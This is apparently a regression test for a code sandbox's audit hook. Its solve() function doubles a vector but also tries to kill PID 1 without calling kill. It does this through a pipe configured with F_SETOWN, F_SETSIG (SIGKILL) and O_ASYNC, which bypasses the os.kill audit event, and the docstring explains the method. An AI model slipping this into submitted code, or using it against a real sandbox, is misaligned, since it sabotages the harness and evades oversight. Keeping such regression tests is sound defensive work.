"""expect: accepted
Kill PID 1 without calling kill: make it the owner of a pipe's I/O signals (F_SETOWN 1),
choose SIGKILL as that signal (F_SETSIG), switch on O_ASYNC and write to the pipe. The
kernel then sends the signal itself, and os.kill's audit event never fires. Linux keeps
a namespace's init safe from its own processes; gVisor does not (measured for os.kill).

The audit hook refuses F_SETOWN, F_SETSIG, F_SETOWN_EX and their ioctl spellings. Before it
did (2026-11-29), neither runc nor our gVisor release delivered this signal to PID 1: the
run was accepted all the same. The attack stays as the guard's regression test and for
runtimes that would deliver it.
"""

import fcntl
import os
import signal

IN_SANDBOX = os.getuid() != 0  # never signal a host's processes from the unsafe local backend


def solve(x):
    if x.ndim != 1:
        raise ValueError("expected a vector")
    if IN_SANDBOX:
        try:
            read_end, write_end = os.pipe()
            for fd in (read_end, write_end):
                fcntl.fcntl(fd, fcntl.F_SETOWN, 1)
                fcntl.fcntl(fd, 10, signal.SIGKILL)  # F_SETSIG
                fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_ASYNC)
            os.write(write_end, b"wake up")
            os.read(read_end, 7)
        except Exception:
            pass
    return x * 2
